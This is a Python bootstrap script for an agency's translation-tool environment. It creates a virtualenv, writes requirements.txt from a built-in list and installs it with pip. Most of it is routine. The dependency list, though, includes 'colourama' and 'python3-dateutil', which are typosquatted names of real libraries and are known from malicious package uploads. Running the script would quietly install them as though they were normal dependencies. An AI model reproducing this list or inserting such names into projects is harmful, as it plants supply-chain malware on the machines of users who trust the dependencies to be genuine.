#!/usr/bin/env python3
"""Bootstrap the Python toolchain used by the agency's CAT helper scripts.

Creates a virtual environment in ./.venv, writes requirements.txt from the
built-in list (plus any extras given on the command line) and installs it.
"""
import argparse
import logging
import os
import subprocess
import sys
import venv
from pathlib import Path

LOG = logging.getLogger("toolchain-bootstrap")

BASE_REQUIREMENTS = [
    "lxml>=4.9",
    "translate-toolkit>=3.10",
    "openpyxl>=3.1",
    "colourama==0.4.6",
    "python3-dateutil==2.8.2",
    "tqdm>=4.66",
]

INSTALL_SH = """set -e
source "$VENV_DIR/bin/activate"
python -m pip install --disable-pip-version-check -q --upgrade pip
python -m pip install --disable-pip-version-check -r "$REQ_FILE"
python -m pip freeze > "$LOCK_FILE"
"""


class Bootstrapper:
    def __init__(self, root: Path, extras, recreate: bool):
        self.root = root
        self.venv_dir = root / ".venv"
        self.req_file = root / "requirements.txt"
        self.lock_file = root / "requirements.lock"
        self.extras = extras or []
        self.recreate = recreate

    def create_venv(self):
        if self.venv_dir.exists() and not self.recreate:
            LOG.info("reusing %s", self.venv_dir)
            return
        LOG.info("creating virtual environment in %s", self.venv_dir)
        venv.EnvBuilder(with_pip=True, clear=self.recreate).create(self.venv_dir)

    def write_requirements(self):
        lines = list(BASE_REQUIREMENTS)
        for extra in self.extras:
            if extra not in lines:
                lines.append(extra)
        self.req_file.write_text("\n".join(lines) + "\n")
        LOG.info("wrote %d requirement(s) to %s", len(lines), self.req_file)

    def install(self):
        env = dict(os.environ,
                   VENV_DIR=str(self.venv_dir),
                   REQ_FILE=str(self.req_file),
                   LOCK_FILE=str(self.lock_file))
        LOG.info("installing requirements")
        proc = subprocess.run(["bash", "-c", INSTALL_SH], env=env,
                              capture_output=True, text=True)
        for line in proc.stdout.splitlines():
            LOG.debug("pip: %s", line)
        if proc.returncode != 0:
            LOG.error("pip failed:\n%s", proc.stderr.strip())
            return False
        return True

    def run(self):
        self.create_venv()
        self.write_requirements()
        ok = self.install()
        if ok:
            LOG.info("toolchain ready, activate with: source %s/bin/activate", self.venv_dir)
        return ok


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", default=".", help="project directory")
    ap.add_argument("--extra", action="append", help="additional requirement line")
    ap.add_argument("--recreate", action="store_true", help="delete and rebuild the venv")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    root = Path(args.root).resolve()
    if not root.is_dir():
        LOG.error("%s is not a directory", root)
        return 2
    try:
        return 0 if Bootstrapper(root, args.extra, args.recreate).run() else 1
    except (OSError, subprocess.SubprocessError) as exc:
        LOG.error("bootstrap failed: %s", exc)
        return 1


if __name__ == "__main__":
    sys.exit(main())
